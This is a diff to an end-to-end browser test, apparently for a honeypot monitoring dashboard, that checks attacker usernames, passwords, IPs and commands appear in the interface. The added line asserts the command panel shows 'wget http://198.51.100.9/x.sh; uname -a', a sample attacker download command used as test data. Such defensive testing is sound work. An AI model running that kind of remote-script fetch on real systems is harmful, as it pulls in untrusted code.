@@ -137,6 +137,7 @@ test("install from /nodes, attack, and see it on every page; a command from /nod
   await page.getByTestId("top-usernames").getByText("root").waitFor();
   await page.getByTestId("top-passwords").getByText("123456").waitFor();
   await page.getByTestId("top-ips").getByRole("link", { name: "127.0.0.1" }).waitFor();
+  await page.locator("#top-commands").getByText("wget http://198.51.100.9/x.sh; uname -a").waitFor();
   await page.getByTestId("health").getByText("sensor-1").waitFor();
   // Every event of this test is in the last hour (the node's own node.* events too).
   const all = (await getJson(`${core.api}/api/v1/events?limit=1000`)).body.events.length;
